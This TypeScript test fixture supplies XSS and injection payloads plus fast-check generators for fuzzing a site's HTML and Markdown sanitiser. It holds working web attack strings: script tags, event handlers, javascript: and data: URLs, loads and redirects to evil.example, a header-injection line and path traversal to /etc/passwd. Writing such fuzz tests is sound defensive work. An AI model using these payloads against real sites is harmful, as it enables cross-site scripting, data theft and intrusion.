import fc from 'fast-check';

/** An origin to which the site must never send a request. */
export const EVIL_ORIGIN = 'https://evil.example';

/**
 * Ways in which content runs a script, loads a foreign file, or breaks out of its element or attribute. Each
 * class of OWASP's and PortSwigger's lists has one example. The scripts call `alert`, which the test records.
 */
export const VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  `<script src="${EVIL_ORIGIN}/x.js"></script>`,
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT\n>alert(1)</SCRIPT\t>',
  '<script/x>alert(1)</script/x>',
  '<script type="module">import("data:text/javascript,alert(1)")</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x`onerror=alert(1)`">',
  '<img/src=x/onerror=alert(1)//',
  '<img """><script>alert(1)</script>">',
  `<img src="${EVIL_ORIGIN}/pixel.gif">`,
  `<img srcset="${EVIL_ORIGIN}/a.gif 1x, ${EVIL_ORIGIN}/b.gif 2x">`,
  `<picture><source srcset="${EVIL_ORIGIN}/a.gif"><img src=x></picture>`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  `<iframe src="${EVIL_ORIGIN}"></iframe>`,
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1) autoplay></audio>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="x" onmouseover=alert(1) style="position:fixed;inset:0">x</a>',
  '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/x) }</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=prefetch href="https://evil.example/x">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><script>alert(1)</script>',
  '<xmp></xmp><img src=x onerror=alert(1)>',
  '<div id=root></div><div id="page-data">{}</div>',
  '<form id=x><input name=attributes><input name=parentNode></form>',
  '<a id=__proto__ href="x"></a><img name=getElementById>',
  // Texts that break out of an attribute, a text, a comment or a block.
  '"><script>alert(1)</script>',
  `'><img src=x onerror=alert(1)>`,
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
  '</script><script>alert(1)</script>',
  '</title></style></textarea></noscript></template><script>alert(1)</script>',
  '<!--<script>alert(1)//-->',
  '--><script>alert(1)</script><!--',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><script>alert(1)</script>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '\u2028alert(1)\u2029//',
  '","x":"</script><img src=x onerror=alert(1)>',
  '\\"};alert(1);//',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is content.
  '${alert(1)}{{constructor.constructor("alert(1)")()}}<%= alert(1) %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '\ufeff<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  // HTML cannot hold these characters, but the payload can.
  'half \ud800 a character',
  '\u0000',
  '\ufffd\u0000\r\r\n',
  'javascript:alert(1)',
  ' \u0001javascript:alert(1)',
  'JaVa\tScRiPt\n:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://www.example.com/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/x',
  'view-source:javascript:alert(1)',
  `${EVIL_ORIGIN}/x.png`,
  '//evil.example/x.png',
  '/\\evil.example/x.png',
  'https://user:pass@evil.example/x.png',
  '/a\r\nSet-Cookie: x=1',
  '/uploads/../../etc/passwd',
  '/uploads/%2e%2e/x.png',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](https://evil.example/x.png)',
  '![x](x"onerror="alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '```html\n<script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
];

/** Pieces of random hostile texts. */
const PIECES = [
  ...VECTORS,
  ...[
    '<',
    '>',
    '"',
    "'",
    '`',
    '=',
    '/',
    '&',
    ';',
    ':',
    '\\',
    '--',
    '<!--',
    '-->',
    '</',
    '/>',
    '<![CDATA[',
    ']]>',
  ],
  ...[
    '<script',
    '</script',
    '<style',
    '<svg',
    '<math',
    '<img ',
    ' src=',
    ' href=',
    ' onerror=',
    ' onload=',
    'alert(1)',
  ],
  ...[
    'javascript:',
    'data:',
    '&#106;',
    '&Tab;',
    '&NewLine;',
    '\u2028',
    '\u2029',
    '\u0000',
    '\u000c',
    '\r\n',
    '\t',
    '\u202e',
  ],
  ...[
    '__proto__',
    'constructor',
    '{"',
    '"}',
    '[',
    '](',
    ')',
    '![',
    '# ',
    '> ',
    '```',
    '\n\n',
    '| ',
    '~',
    '*',
    '_',
    '😀',
    '\ud800',
  ],
];

/** Random texts from hostile pieces. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 8 }).map(pieces => pieces.join('')),
  fc.constantFrom(...VECTORS),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

/** Hostile texts, used in turn in place of the texts of half of the fields. */
export interface HostileContent {
  texts: readonly string[];
  /**
   * Which fields get hostile texts: the even (0) or the odd ones (1). The others keep their texts. If a
   * link's address were hostile too, the link would be dropped and its hostile title never tested.
   */
  half: 0 | 1;
}

export const hostileContent: fc.Arbitrary<HostileContent> = fc.record({
  texts: fc.array(hostileText, { minLength: 5, maxLength: 60 }),
  half: fc.constantFrom<0 | 1>(0, 1),
});

/**
 * @returns the vectors, rotated by `shift`, for each half of the fields. All shifts together put each vector
 *   into each field.
 */
export function shiftedVectors(shift: number): HostileContent[] {
  const texts = [...VECTORS.slice(shift), ...VECTORS.slice(0, shift)];
  return [
    { texts, half: 0 },
    { texts, half: 1 },
  ];
}
